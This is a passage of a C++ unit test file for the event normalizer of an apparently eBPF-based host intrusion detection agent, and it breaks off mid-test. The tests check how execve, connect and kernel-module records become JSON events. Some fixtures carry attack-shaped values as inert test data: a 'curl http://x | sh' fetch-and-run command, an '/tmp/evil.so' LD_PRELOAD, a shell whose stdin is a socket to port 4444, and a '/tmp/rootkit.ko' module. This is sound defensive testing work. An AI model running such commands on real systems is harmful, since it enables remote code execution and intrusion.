#include "event/normalizer.h"

#include "event/container_id.h"
#include "hostile_strings.h"
#include "json_check.h"
#include "record_builder.h"

#include <catch2/catch.hpp>

#include <algorithm>
#include <cstddef>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <pwd.h>
#include <sstream>
#include <unistd.h>

using namespace smith::event;
using namespace smith::test;

namespace {

constexpr int64_t kBootToEpoch = 1'700'000'000'000'000'000;
constexpr uint32_t kNoSuchPid = 0x7ffffff0; // above pid_max: never in /proc
const std::string kCid = "4f5ab7c34d0fc1e6b0a5a1d7bdf4c1e1a3ef22a3cb38c4e6df0bcd9a4c7ed6a1";

HostInfo test_host()
{
	HostInfo h;
	h.hostname = "host-a";
	h.host_id = "0123456789abcdef0123456789abcdef";
	h.run_id = "00112233445566778899aabbccddeeff";
	h.backend = "ebpf";
	h.boot_to_epoch_ns = kBootToEpoch;
	return h;
}

std::span<const std::byte> as_span(const std::vector<std::byte> &v)
{
	return {v.data(), v.size()};
}

std::string normalize(Normalizer &n, const std::vector<std::byte> &rec, uint64_t seq = 1)
{
	std::string out;
	const NormalizeResult r = n.append_json(as_span(rec), seq, out);
	INFO(r.error);
	REQUIRE(r.ok);
	return out;
}

// This process's start, ns after boot, from /proc/self/stat's starttime (field 22).
uint64_t self_start_ns()
{
	std::ifstream f("/proc/self/stat");
	std::string stat((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
	std::istringstream rest(stat.substr(stat.rfind(')') + 2));
	std::string field;
	for (int i = 3; i <= 22; ++i)
		rest >> field;
	return std::stoull(field) * (1000000000ULL / static_cast<uint64_t>(sysconf(_SC_CLK_TCK)));
}

std::string user_of(uint32_t uid)
{
	const passwd *pw = getpwuid(uid);
	return pw ? pw->pw_name : "";
}

// A PidTreeSpec as ParsedLine::pid_tree() reads it back.
std::vector<std::string> expected_tree(const PidTreeSpec &t)
{
	std::vector<std::string> out;
	for (const auto &e : t.entries)
		out.push_back(std::to_string(e.pid) + ":" + e.comm);
	return out;
}

void check_common(const ParsedLine &p, const HeaderSpec &h, uint64_t seq, std::string_view type,
		  int64_t data_type)
{
	CHECK(p.pid_tree() == expected_tree(h.pid_tree));
	CHECK(p.boolean("pid_tree_truncated") == ((h.pid_tree.flags & SMITH_PID_TREE_TRUNCATED) != 0));
	const TaskSpec &t = h.task;
	CHECK(p.i64("schema") == 1);
	CHECK(p.u64("seq") == seq);
	CHECK(p.str("run_id") == "00112233445566778899aabbccddeeff");
	CHECK(p.u64("ts") == h.ts + static_cast<uint64_t>(kBootToEpoch));
	CHECK(p.str("type") == type);
	CHECK(p.i64("data_type") == data_type);
	CHECK(p.str("backend") == "ebpf");
	CHECK(p.str("hostname") == "host-a");
	CHECK(p.str("host_id") == "0123456789abcdef0123456789abcdef");
	CHECK(p.str("nodename") == t.nodename);
	CHECK(p.i64("pid") == t.pid);
	CHECK(p.i64("tid") == t.tid);
	CHECK(p.i64("ppid") == t.ppid);
	CHECK(p.i64("pgid") == t.pgid);
	CHECK(p.i64("sid") == t.sid);
	CHECK(p.i64("uid") == t.uid);
	CHECK(p.i64("gid") == t.gid);
	CHECK(p.i64("euid") == t.euid);
	CHECK(p.i64("egid") == t.egid);
	CHECK(p.str("user") == user_of(t.uid));
	CHECK(p.str("comm") == t.comm);
	CHECK(p.i64("sessionid") == (t.sessionid == 0xffffffffu ? -1 : int64_t{t.sessionid}));
	CHECK(p.u64("pidns") == t.pidns);
	CHECK(p.u64("mntns") == t.mntns);
	CHECK(p.u64("netns") == t.netns);
	CHECK(p.u64("cgroup_id") == t.cgroup_id);
}

} // namespace

TEST_CASE("execve: every field, in schema order", "[unit]")
{
	Normalizer n(test_host());
	ExecSpec s;
	s.hdr.ts = 987654321;
	s.hdr.task.uid = 0;
	s.hdr.task.comm = "curl";
	s.hdr.task.nodename = "web-7d9c";
	s.hdr.task.sessionid = 0xffffffffu;
	s.hdr.task.cgroup_id = 0x1234567890ull;
	s.filename = "./run.sh";
	s.argv = {"sh", "-c", "curl http://x | sh", ""};
	s.exe = "/usr/bin/dash";
	s.cwd = "/tmp/work dir";
	s.tty = "pts12";
	s.cgroup = "docker-" + kCid + ".scope";
	s.ld_preload = "/tmp/evil.so";
	s.stdin_fd.kind = SMITH_FD_INET;
	s.stdin_fd.inet = inet4(6, {10, 0, 0, 5}, 51234, {203, 0, 113, 9}, 4444);
	s.stdout_fd.kind = SMITH_FD_PATH;
	s.stdout_path = "/dev/pts/12";
	const std::string line = normalize(n, build_execve(s), 17);

	ParsedLine p(line);
	CHECK(p.keys() == kExecKeys);
	check_common(p, s.hdr, 17, "execve", 59);
	CHECK(p.str("user") == "root");
	CHECK(p.i64("sessionid") == -1);
	CHECK(p.str("exe") == "/usr/bin/dash");
	CHECK(p.str("cwd") == "/tmp/work dir");
	CHECK(p.str("tty") == "pts/12");
	CHECK(p.str("container_id") == kCid);
	CHECK(p.str("filename") == "./run.sh");
	CHECK(p.strings("argv") == s.argv);
	CHECK(p.boolean("argv_truncated") == false);
	CHECK(p.str("stdin") == "tcp:10.0.0.5:51234->203.0.113.9:4444");
	CHECK(p.str("stdout") == "/dev/pts/12");
	CHECK(p.str("ld_preload") == "/tmp/evil.so");
	CHECK(p.i64("retval") == 0);
}

TEST_CASE("execve: failed attempt, truncated argv, no tty, pipes and sockets", "[unit]")
{
	Normalizer n(test_host());
	ExecSpec s;
	s.hdr.retval = -2;
	s.hdr.task.uid = 3999999999u;	      // no such user
	s.hdr.task.comm = "0123456789abcdef"; // full 16 bytes, no NUL
	s.flags = SMITH_EXEC_ARGV_TRUNCATED | SMITH_EXEC_PATH_TRUNCATED;
	s.argv_raw = std::string("a\0bcd", 5); // cut mid-argument
	s.argc = 7;			       // the bytes decide
	s.tty = "";
	s.cgroup = "session-4.scope";
	s.cwd = "/";
	s.exe = "";
	s.stdin_fd.kind = SMITH_FD_PIPE;
	s.stdin_fd.ino = 31337;
	s.stdout_fd.kind = SMITH_FD_INET;
	s.stdout_fd.inet = inet6(17, ip6_loopback(), 40000, ip6_mapped(8, 8, 4, 4), 53);
	const std::string line = normalize(n, build_execve(s), 1);
	ParsedLine p(line);
	CHECK(p.keys() == kExecKeys);
	check_common(p, s.hdr, 1, "execve", 59);
	CHECK(p.str("user") == "");
	CHECK(p.str("comm") == "0123456789abcdef");
	CHECK(p.str("exe") == "");
	CHECK(p.str("cwd") == "/");
	CHECK(p.str("tty") == "");
	CHECK(p.str("container_id") == "");
	CHECK(p.strings("argv") == std::vector<std::string>{"a", "bcd"});
	CHECK(p.boolean("argv_truncated") == true);
	CHECK(p.str("stdin") == "pipe:[31337]");
	CHECK(p.str("stdout") == "udp:[::1]:40000->[::ffff:8.8.4.4]:53");
	CHECK(p.str("ld_preload") == "");
	CHECK(p.i64("retval") == -2);

	s.stdin_fd = {};
	s.stdin_fd.kind = SMITH_FD_SOCKET;
	s.stdin_fd.ino = 5;
	s.stdout_fd = {};
	s.stdout_fd.kind = SMITH_FD_OTHER;
	s.stdout_fd.ino = 6;
	s.argv = {};
	s.argv_raw.reset();
	ParsedLine q(normalize(n, build_execve(s), 2));
	CHECK(q.str("stdin") == "socket:[5]");
	CHECK(q.str("stdout") == "anon_inode:[6]");
	CHECK(q.strings("argv").empty());

	s.stdin_fd = {};
	s.stdout_fd = {};
	s.stdin_path = "/dev/null"; // a path the record carries is only the text of a PATH fd
	s.stdout_path = "/dev/null";
	ParsedLine r(normalize(n, build_execve(s), 3));
	CHECK(r.str("stdin") == "");
	CHECK(r.str("stdout") == "");

	s.stdin_fd.kind = SMITH_FD_PIPE;
	s.stdin_fd.ino = 7;
	s.stdout_fd.kind = SMITH_FD_PATH;
	ParsedLine u(normalize(n, build_execve(s), 4));
	CHECK(u.str("stdin") == "pipe:[7]");
	CHECK(u.str("stdout") == "/dev/null");
}

TEST_CASE("connect: ipv4, ipv6 and mapped destinations", "[unit]")
{
	Normalizer n(test_host());
	ConnectSpec s;
	s.hdr.task.pid = kNoSuchPid;
	s.hdr.task.sessionid = 0;
	s.hdr.retval = -115;

	SECTION("ipv4 tcp")
	{
		s.inet = inet4(6, {192, 168, 1, 20}, 45678, {93, 184, 216, 34}, 443);
		ParsedLine p(normalize(n, build_connect(s), 99));
		CHECK(p.keys() == kConnectKeys);
		check_common(p, s.hdr, 99, "connect", 42);
		CHECK(p.i64("sessionid") == 0);
		CHECK(p.str("exe") == ""); // not seen exec'ing, not in /proc
		CHECK(p.str("cwd") == "");
		CHECK(p.str("tty") == "");
		CHECK(p.str("container_id") == "");
		CHECK(p.str("family") == "ipv4");
		CHECK(p.str("protocol") == "tcp");
		CHECK(p.str("saddr") == "192.168.1.20");
		CHECK(p.i64("sport") == 45678);
		CHECK(p.str("daddr") == "93.184.216.34");
		CHECK(p.i64("dport") == 443);
		CHECK(p.i64("retval") == -115);
	}
	SECTION("ipv6 udp")
	{
		s.inet = inet6(17, ip6_loopback(), 40000, ip6_loopback(), 8080);
		ParsedLine p(normalize(n, build_connect(s)));
		CHECK(p.keys() == kConnectKeys);
		CHECK(p.str("family") == "ipv6");
		CHECK(p.str("protocol") == "udp");
		CHECK(p.str("saddr") == "::1");
		CHECK(p.i64("sport") == 40000);
		CHECK(p.str("daddr") == "::1");
		CHECK(p.i64("dport") == 8080);
	}
	SECTION("IPv4-mapped destination stays as given")
	{
		s.inet = inet6(6, {}, 0, ip6_mapped(1, 2, 3, 4), 80);
		ParsedLine p(normalize(n, build_connect(s)));
		CHECK(p.str("saddr") == "::");
		CHECK(p.str("daddr") == "::ffff:1.2.3.4");
	}
	SECTION("unknown family and protocol give empty strings")
	{
		s.inet = inet4(1, {1, 2, 3, 4}, 1, {5, 6, 7, 8}, 2);
		s.inet.family = 1;
		ParsedLine p(normalize(n, build_connect(s)));
		CHECK(p.keys() == kConnectKeys);
		CHECK(p.str("family") == "");
		CHECK(p.str("protocol") == "");
		CHECK(p.str("saddr") == "");
		CHECK(p.str("daddr") == "");
	}
}

TEST_CASE("connect: where the destination came from, the way in, and the 32-bit entry", "[unit]")
{
	Normalizer n(test_host());
	ConnectSpec s;
	s.inet = inet4(6, {10, 0, 0, 1}, 40000, {10, 0, 0, 2}, 443);

	SECTION("the socket the kernel connected")
	{
		s.flags = SMITH_CONNECT_DADDR_SOCKET;
		ParsedLine p(normalize(n, build_connect(s)));
		CHECK(p.str("daddr_source") == "socket");
		CHECK(p.str("daddr") == "10.0.0.2");
		CHECK(p.i64("dport") == 443);
		CHECK(p.str("via") == "connect");
		CHECK(p.boolean("compat") == false);
	}
	SECTION("the caller's memory, after a failed call (and from producers before the flags)")
	{
		s.hdr.retval = -111;
		ParsedLine p(normalize(n, build_connect(s)));
		CHECK(p.str("daddr_source") == "user");
		CHECK(p.str("daddr") == "10.0.0.2");
		CHECK(p.i64("dport") == 443);
	}
	SECTION("not known: the event goes out, and says so")
	{
		s.hdr.retval = -14;
		s.flags = SMITH_CONNECT_DADDR_UNKNOWN;
		ParsedLine p(normalize(n, build_connect(s)));
		CHECK(p.keys() == kConnectKeys);
		CHECK(p.str("daddr_source") == "none");
		CHECK(p.str("daddr") == "");
		CHECK(p.i64("dport") == -1);
		CHECK(p.str("saddr") == "10.0.0.1"); // the socket's own side is still known
		CHECK(p.i64("retval") == -14);
	}
	SECTION("every way in, and compat")
	{
		s.flags = SMITH_CONNECT_DADDR_SOCKET | SMITH_CONNECT_COMPAT;
		const std::pair<uint16_t, const char *> ways[] = {
			{SMITH_VIA_CONNECT, "connect"},	  {SMITH_VIA_SOCKETCALL, "socketcall"},
			{SMITH_VIA_IO_URING, "io_uring"}, {SMITH_VIA_SENDTO, "sendto"},
			{SMITH_VIA_OTHER, "other"},	  {77, "other"}};
		for (const auto &[via, name] : ways) {
			s.via = via;
			ParsedLine p(normalize(n, build_connect(s)));
			INFO("via " << via);
			CHECK(p.str("via") == name);
			CHECK(p.boolean("compat") == true);
		}
	}
}

TEST_CASE("every truncation flag and the 32-bit entry reach the event", "[unit]")
{
	Normalizer n(test_host());
	SECTION("execve")
	{
		ExecSpec s;
		ParsedLine none(normalize(n, build_execve(s)));
		CHECK(none.boolean("argv_truncated") == false);
		CHECK(none.boolean("env_truncated") == false);
		CHECK(none.boolean("path_truncated") == false);
		CHECK(none.boolean("compat") == false);
		s.flags = SMITH_EXEC_ARGV_TRUNCATED | SMITH_EXEC_ENV_TRUNCATED | SMITH_EXEC_PATH_TRUNCATED |
			  SMITH_EXEC_COMPAT;
		ParsedLine all(normalize(n, build_execve(s)));
		CHECK(all.boolean("argv_truncated") == true);
		CHECK(all.boolean("env_truncated") == true);
		CHECK(all.boolean("path_truncated") == true);
		CHECK(all.boolean("compat") == true);
	}
	SECTION("modules")
	{
		ModuleSpec s;
		ParsedLine none(normalize(n, build_module(s)));
		CHECK(none.boolean("module_path_truncated") == false);
		CHECK(none.boolean("params_truncated") == false);
		CHECK(none.boolean("compat") == false);
		s.flags = SMITH_MODULE_PATH_TRUNCATED | SMITH_MODULE_PARAMS_TRUNCATED | SMITH_MODULE_COMPAT;
		ParsedLine all(normalize(n, build_module(s)));
		CHECK(all.boolean("module_path_truncated") == true);
		CHECK(all.boolean("params_truncated") == true);
		CHECK(all.boolean("compat") == true);
	}
}

TEST_CASE("a process that forked and never exec'd is known by its parent's image", "[unit]")
{
	Normalizer n(test_host());
	ExecSpec parent;
	parent.hdr.task.pid = kNoSuchPid;
	parent.hdr.task.start_time = 700;
	parent.exe = "/usr/sbin/sshd";
	parent.cwd = "/";
	parent.tty = "";
	parent.cgroup = "docker-" + kCid + ".scope";
	normalize(n, build_execve(parent));

	ForkSpec f;
	f.hdr.task = parent.hdr.task;
	f.child_pid = kNoSuchPid + 1;
	f.child_start_time = 900;
	std::string out = "before\n";
	const NormalizeResult fr = n.append_json(as_span(build_fork(f)), 1, out);
	CHECK(fr.ok);
	CHECK(fr.event == false); // no event of its own
	CHECK(out == "before\n");

	// The child connects, and has long exited by the time its record is read: no /proc to ask.
	ConnectSpec c;
	c.hdr.task.pid = f.child_pid;
	c.hdr.task.tid = f.child_pid;
	c.hdr.task.ppid = kNoSuchPid;
	c.hdr.task.start_time = 900;
	c.inet = inet4(6, {10, 0, 0, 1}, 1, {10, 0, 0, 2}, 2);
	ParsedLine p(normalize(n, build_connect(c)));
	CHECK(p.str("exe") == "/usr/sbin/sshd");
	CHECK(p.str("cwd") == "/");
	CHECK(p.str("container_id") == kCid);

	// A thread of the child is the same process: same entry.
	c.hdr.task.tid = f.child_pid + 7;
	ParsedLine t(normalize(n, build_connect(c)));
	CHECK(t.str("exe") == "/usr/sbin/sshd");

	// The child's own exec replaces what it inherited; the parent keeps its own.
	ExecSpec child_exec;
	child_exec.hdr.task = c.hdr.task;
	child_exec.exe = "/bin/bash";
	child_exec.cgroup = "docker-" + kCid + ".scope";
	normalize(n, build_execve(child_exec));
	ParsedLine after(normalize(n, build_connect(c)));
	CHECK(after.str("exe") == "/bin/bash");
	ConnectSpec pc = c;
	pc.hdr.task = parent.hdr.task;
	ParsedLine par(normalize(n, build_connect(pc)));
	CHECK(par.str("exe") == "/usr/sbin/sshd");
}

TEST_CASE("connect and module records take exe, cwd, tty, container from the execve", "[unit]")
{
	Normalizer n(test_host());
	ExecSpec e;
	e.hdr.task.pid = kNoSuchPid;
	e.hdr.task.start_time = 555;
	e.exe = "/usr/bin/nc";
	e.cwd = "/root";
	e.tty = "pts3";
	e.cgroup = "cri-containerd-" + kCid + ".scope";
	normalize(n, build_execve(e));

	ConnectSpec c;
	c.hdr.task = e.hdr.task;
	c.inet = inet4(6, {10, 0, 0, 1}, 1, {10, 0, 0, 2}, 2);
	ParsedLine p(normalize(n, build_connect(c)));
	CHECK(p.str("exe") == "/usr/bin/nc");
	CHECK(p.str("cwd") == "/root");
	CHECK(p.str("tty") == "pts/3");
	CHECK(p.str("container_id") == kCid);

	ModuleSpec m;
	m.hdr.task = e.hdr.task;
	ParsedLine q(normalize(n, build_module(m)));
	CHECK(q.str("exe") == "/usr/bin/nc");
	CHECK(q.str("container_id") == kCid);

	// Same pid, another start time: another process.
	c.hdr.task.start_time = 556;
	ParsedLine r(normalize(n, build_connect(c)));
	CHECK(r.str("exe") == "");
	CHECK(r.str("container_id") == "");

	// A later exec of the same process replaces what is known about it; a
	// failed exec reports (and keeps) the caller's own image.
	e.exe = "/usr/bin/python3";
	e.cgroup = "session-1.scope";
	e.hdr.retval = -13;
	normalize(n, build_execve(e));
	c.hdr.task.start_time = 555;
	ParsedLine s(normalize(n, build_connect(c)));
	CHECK(s.str("exe") == "/usr/bin/python3");
	CHECK(s.str("container_id") == "");
}

TEST_CASE("connect from a process never seen exec'ing reads procfs", "[unit]")
{
	Normalizer n(test_host());
	ConnectSpec c;
	c.hdr.task.pid = static_cast<uint32_t>(getpid());
	c.hdr.task.start_time = self_start_ns();
	c.inet = inet4(6, {127, 0, 0, 1}, 1, {127, 0, 0, 1}, 2);
	ParsedLine p(normalize(n, build_connect(c)));
	CHECK(p.str("exe") == std::filesystem::read_symlink("/proc/self/exe").string());
	CHECK(p.str("cwd") == std::filesystem::current_path().string());
	std::ifstream f("/proc/self/cgroup");
	std::stringstream cg;
	cg << f.rdbuf();
	CHECK(p.str("container_id") == container_id_from_proc_cgroup(cg.str()));
}

TEST_CASE("a pid that now names another process lends nothing from procfs", "[unit]")
{
	Normalizer n(test_host());
	ConnectSpec c;
	c.hdr.task.pid = static_cast<uint32_t>(getpid());
	c.hdr.task.start_time = self_start_ns() + 5000000000ULL; // the pid's earlier owner
	c.inet = inet4(6, {127, 0, 0, 1}, 1, {127, 0, 0, 1}, 2);
	ParsedLine p(normalize(n, build_connect(c)));
	CHECK(p.str("exe") == "");
	CHECK(p.str("cwd") == "");
	CHECK(p.u64("pid") == static_cast<uint64_t>(getpid()));
}

TEST_CASE("connect_suppressed names the process and counts what its budget held back", "[unit]")
{
	Normalizer n(test_host());
	ExecSpec e;
	e.hdr.task.pid = 4242;
	e.hdr.task.start_time = 777;
	e.exe = "/usr/bin/flood";
	normalize(n, build_execve(e));

	SuppressedSpec s;
	s.hdr.task.pid = 4242;
	s.hdr.task.start_time = 777;
	s.hdr.ts = 3000000000;
	s.suppressed = 123456;
	s.first_ts = 1000000000;
	s.last_ts = 2999999999;
	s.rate = 5000;
	s.burst = 10000;
	ParsedLine p(normalize(n, build_connect_suppressed(s)));
	CHECK(p.keys() == kConnectSuppressedKeys);
	CHECK(p.str("type") == "connect_suppressed");
	CHECK(p.i64("data_type") == 1042);
	CHECK(p.i64("pid") == 4242);
	CHECK(p.str("exe") == "/usr/bin/flood");
	CHECK(p.u64("suppressed") == 123456);
	CHECK(p.u64("first_ts") == 1000000000 + kBootToEpoch);
	CHECK(p.u64("last_ts") == 2999999999 + kBootToEpoch);
	CHECK(p.u64("ts") == 3000000000 + kBootToEpoch);
	CHECK(p.u64("budget_rate") == 5000);
	CHECK(p.u64("budget_burst") == 10000);
	CHECK(p.i64("retval") == 0);
}

TEST_CASE("init_module and finit_module", "[unit]")
{
	Normalizer n(test_host());
	ModuleSpec m;
	m.hdr.task.pid = kNoSuchPid;
	m.hdr.retval = -17;

	SECTION("init_module")
	{
		ParsedLine p(normalize(n, build_module(m), 5));
		CHECK(p.keys() == kModuleKeys);
		check_common(p, m.hdr, 5, "init_module", 175);
		CHECK(p.str("module") == "dummy");
		CHECK(p.str("module_path") == "");
		CHECK(p.str("params") == "numdummies=2");
		CHECK(p.i64("retval") == -17);
	}
	SECTION("finit_module")
	{
		m.hdr.type = SMITH_REC_FINIT_MODULE;
		m.hdr.retval = 0;
		m.path = "/lib/modules/6.1.0/kernel/drivers/net/dummy.ko";
		m.params = "";
		ParsedLine p(normalize(n, build_module(m), 6));
		CHECK(p.keys() == kModuleKeys);
		check_common(p, m.hdr, 6, "finit_module", 313);
		CHECK(p.str("module") == "dummy");
		CHECK(p.str("module_path") == "/lib/modules/6.1.0/kernel/drivers/net/dummy.ko");
		CHECK(p.str("params") == "");
		CHECK(p.i64("retval") == 0);
	}
	SECTION("name from the path when the load failed before it was known")
	{
		m.hdr.type = SMITH_REC_FINIT_MODULE;
		m.name = "";
		const std::vector<std::pair<std::string, std::string>> cases = {
			{"/tmp/rootkit.ko", "rootkit"},		{"/lib/modules/x/e1000e.ko.xz", "e1000e"},
			{"/lib/modules/x/nvme.ko.zst", "nvme"}, {"/lib/modules/x/ext4.ko.gz", "ext4"},
			{"/tmp/blob.bin", "blob.bin"},		{"/tmp/.ko", ".ko"},
		};
		for (const auto &[path, name] : cases) {
			m.path = path;
			ParsedLine p(normalize(n, build_module(m)));
			CHECK(p.str("module") == name);
			CHECK(p.str("module_path") == path);
		}
		m.path = "";
		ParsedLine p(normalize(n, build_module(m)));
		CHECK(p.str("module") == "");
	}
}

TEST_CASE("hostile strings in every string the kernel hands over", "[unit]")
{
	Normalizer n(test_host());
	uint64_t seq = 0;
	// NUL delimits argv arguments, path components, comm and nodename: those
	// get the case without its NULs. filename and ld_preload are length-delimited.
	const auto strip_nul = [](std::string v) {
		std::erase(v, '\0');
		return v;
	};
	for (const auto &[in_raw, expect_raw] : hostile_cases()) {
		INFO("case " << expect_raw);
		const std::string in = strip_nul(in_raw);
		const std::string expect = strip_nul(expect_raw);
		ExecSpec s;
		s.argv = {in, "x" + in + "y", in};
		s.filename = in_raw;
		s.ld_preload = in_raw;
		s.cwd_raw = std::string("sub\0", 4) + in + std::string(1, '\0'); // "/<in>/sub"
		s.exe_raw = in + std::string("\0bin\0", 5);			 // "/bin/<in>"
		s.hdr.task.comm = in.substr(0, 16);
		s.hdr.task.nodename = in.substr(0, 71);
		s.hdr.pid_tree.entries[1].comm = in.substr(0, 16);
		const std::string line = normalize(n, build_execve(s), ++seq);
		ParsedLine p(line);
		CHECK(p.keys() == kExecKeys);
		CHECK(p.u64("seq") == seq);
		CHECK(p.strings("argv") == std::vector<std::string>{expect, "x" + expect + "y", expect});
		CHECK(p.str("filename") == expect_raw);
		CHECK(p.str("ld_preload") == expect_raw);
		CHECK(p.str("cwd") == (in.empty() ? "/sub" : "/" + expect + "/sub"));
		CHECK(p.str("exe") == (in.empty() ? "/bin" : "/bin/" + expect));
		if (in.size() <= 16) {
			CHECK(p.str("comm") == expect);
			CHECK(p.str("nodename") == expect);
			CHECK(p.pid_tree()[1] == "4000:" + expect);
		}
	}
	// Control bytes and multibyte text in comm and nodename.
	ExecSpec s;
	const std::string ctl = all_control_bytes().substr(1);
	s.hdr.task.comm = ctl.substr(0, 16);
	s.hdr.task.nodename = ctl + "\xC3\xA9\xF0\x9F\x98\x80\xFF";
	ParsedLine p(normalize(n, build_execve(s)));
	CHECK(p.str("comm") == ctl.substr(0, 16));
	CHECK(p.str("nodename") == ctl + "\xC3\xA9\xF0\x9F\x98\x80" + kFFFD);
	// A multibyte character cut by the 16-byte comm.
	s.hdr.task.comm = "abcdefghijklmn\xF0\x9F\x98\x80";
	ParsedLine q(normalize(n, build_execve(s)));
	CHECK(q.str("comm") == "abcdefghijklmn" + kFFFD + kFFFD);
}

TEST_CASE("argv at the largest size a u16 length allows", "[unit]")
{
	Normalizer n(test_host());
	ExecSpec s;
	s.argv.clear();
	std::string raw;
	for (size_t k = 0; raw.size() < 0xffff - 200; ++k) {
		const char fill = k % 2 == 0 ? '\xC3' : 'z'; // even arguments: lone lead bytes
		const std::string a = "arg" + std::to_string(k) + std::string(90, fill);
		s.argv.push_back(a);
		raw += a;
		raw.push_back('\0');
	}
	const std::string last(0xffff - raw.size(), 'q'); // fills to 65535, without its NUL
	s.argv.push_back(last);
	raw += last;
	REQUIRE(raw.size() == 0xffff);
	s.argv_raw = raw;
	s.flags = SMITH_EXEC_ARGV_TRUNCATED;
	const auto rec = build_execve(s);
	REQUIRE(rec.size() > SMITH_ARGV_MAX);
	ParsedLine p(normalize(n, rec));
	const auto got = p.strings("argv");
	REQUIRE(got.size() == s.argv.size());
	for (size_t k = 0; k < got.size(); ++k) {
		std::string expect = s.argv[k];
		if (k % 2 == 0 && k + 1 < got.size()) { // lone 0xC3 lead bytes
			std::string fixed;
			for (const char c : expect)
				fixed += c == '\xC3' ? kFFFD : std::string(1, c);
			expect = fixed;
		}
		REQUIRE(got[k] == expect);
	}
	CHECK(p.boolean("argv_truncated"));
}

TEST_CASE("malformed records append nothing", "[unit]")
{
	Normalizer n(test_host());
	std::string out = "previous line\n";
	const std::string before = out;
	auto rec = build_execve(ExecSpec{});

	auto reject = [&](const std::vector<std::byte> &r) {
		const NormalizeResult res = n.append_json(as_span(r), 1, out);
		CHECK_FALSE(res.ok);
		CHECK_FALSE(res.error.empty());
		CHECK(out == before);
	};
	reject({});
	reject(std::vector<std::byte>(rec.begin(), rec.begin() + 100)); // truncated
	reject(std::vector<std::byte>(rec.begin(), rec.end() - 1));	// hdr.size mismatch
	{
		ExecSpec s;
		s.hdr.abi = SMITH_ABI_VERSION + 1;
		reject(build_execve(s));
	}
	{
		auto r = rec;
		const uint16_t t = 9;
		std::memcpy(r.data() + offsetof(smith_rec_hdr, type), &t, 2);
		reject(r);
	}
	{
		auto r = rec;
		const uint16_t big = 0xffff;
		std::memcpy(r.data() + offsetof(smith_execve, len) + 2 * SMITH_EXEC_ARGV, &big, 2);
		reject(r);
	}
	// A good record still goes through afterwards, appended after what was there.
	const NormalizeResult ok = n.append_json(as_span(rec), 2, out);
	CHECK(ok.ok);
	CHECK(ok.type == SMITH_REC_EXECVE);
	CHECK(out.starts_with(before));
	ParsedLine p(out.substr(before.size()));
	CHECK(p.u64("seq") == 2);
}

TEST_CASE("result type per record and seq passes through", "[unit]")
{
	Normalizer n(test_host());
	CHECK(n.host().run_id == "00112233445566778899aabbccddeeff");
	std::string out;
	CHECK(n.append_json(as_span(build_connect(ConnectSpec{})), 1, out).type == SMITH_REC_CONNECT);
	ModuleSpec m;
	CHECK(n.append_json(as_span(build_module(m)), 2, out).type == SMITH_REC_INIT_MODULE);
	m.hdr.type = SMITH_REC_FINIT_MODULE;
	CHECK(n.append_json(as_span(build_module(m)), UINT64_MAX, out).type == SMITH_REC_FINIT_MODULE);
	const size_t last = out.rfind('\n', out.size() - 2);
	ParsedLine p(out.substr(last + 1));
	CHECK(p.u64("seq") == UINT64_MAX);
	CHECK(std::count(out.begin(), out.end(), '\n') == 3);
}

TEST_CASE("the common fields follow every change of the task between one process's events", "[unit]")
{
	Normalizer n(test_host());
	ExecSpec e;
	e.hdr.task.pid = kNoSuchPid;
	e.hdr.task.start_time = 321;
	e.hdr.task.uid = 0;
	e.exe = "/usr/bin/agent";
	e.cwd = "/srv";
	normalize(n, build_execve(e));

	ConnectSpec c;
	c.hdr.task = e.hdr.task;
	c.inet = inet4(6, {10, 0, 0, 1}, 1, {10, 0, 0, 2}, 2);
	uint64_t seq = 1;
	const auto check_connect = [&] {
		++seq;
		c.hdr.ts += 1000;
		ParsedLine p(normalize(n, build_connect(c), seq));
		check_common(p, c.hdr, seq, "connect", 42);
		CHECK(p.str("exe") == "/usr/bin/agent");
		CHECK(p.str("cwd") == "/srv");
	};
	check_connect();
	check_connect(); // the same again
	std::vector<std::function<void(TaskSpec &)>> changes = {
		[](TaskSpec &t) { t.tid += 1; },    // another thread
		[](TaskSpec &t) { t.uid = 65534; }, // setuid: another user name
		[](TaskSpec &t) { t.euid = 1; },
		[](TaskSpec &t) { t.gid = 2; },
		[](TaskSpec &t) { t.egid = 3; },
		[](TaskSpec &t) { t.ppid = 1; },		// reparented
		[](TaskSpec &t) { t.pgid = 9; },		// setpgid
		[](TaskSpec &t) { t.sid = 9; },			// setsid
		[](TaskSpec &t) { t.comm = "renamed\"\n"; },	// prctl(PR_SET_NAME)
		[](TaskSpec &t) { t.nodename = "other-node"; }, // unshare(CLONE_NEWUTS)
		[](TaskSpec &t) { t.sessionid = 0xffffffffu; },
		[](TaskSpec &t) { t.sessionid = 77; },
		[](TaskSpec &t) { t.pidns = 1; },
		[](TaskSpec &t) { t.mntns = 2; },
		[](TaskSpec &t) { t.netns = 3; },		    // setns
		[](TaskSpec &t) { t.cgroup_id = 0xffffffffffull; }, // moved to another cgroup
		[](TaskSpec &t) { t.uid = 0; },			    // and back
	};
	for (auto &change : changes) {
		change(c.hdr.task);
		check_connect();
		check_connect();
	}
	using Entry = PidTreeSpec::Entry;
	std::vector<std::function<void(PidTreeSpec &)>> tree_changes = {
		[](PidTreeSpec &t) {
			t.entries[1] = {1, "systemd"}, t.entries.pop_back();
		},							// parent exited
		[](PidTreeSpec &t) { t.entries[1].comm = "init\"\n"; }, // a parent renamed
		[](PidTreeSpec &t) {
			t.entries.insert(t.entries.begin() + 1, Entry{77, "sub"});
		},
		[](PidTreeSpec &t) {
			t.entries.assign(SMITH_PID_TREE_MAX, Entry{9, "deep"});
			t.flags = SMITH_PID_TREE_TRUNCATED;
		},
		[](PidTreeSpec &t) { t.flags = 0; },
		[](PidTreeSpec &t) {
			t.entries = {{kNoSuchPid, "agent"}};
		}, // only itself: an init
	};
	for (auto &change : tree_changes) {
		change(c.hdr.pid_tree);
		check_connect();
		check_connect();
	}
}

TEST_CASE("pid_tree: bytes past a comm's NUL and past the depth are not the event's", "[unit]")
{
	Normalizer n(test_host());
	ConnectSpec c;
	c.hdr.task.pid = kNoSuchPid;
	c.hdr.pid_tree.entries = {{kNoSuchPid, "a"}, {1, "init"}};
	std::vector<std::byte> rec = build_connect(c);
	ParsedLine first(normalize(n, rec, 1));
	CHECK(first.pid_tree() == std::vector<std::string>{std::to_string(kNoSuchPid) + ":a", "1:init"});
	// Leftovers of longer names and of deeper trees, as a ring's reused memory holds them.
	smith_connect raw;
	std::memcpy(&raw, rec.data(), sizeof(raw));
	std::memcpy(raw.pid_tree.comm[0], "a\0stale-bytes!!", 16);
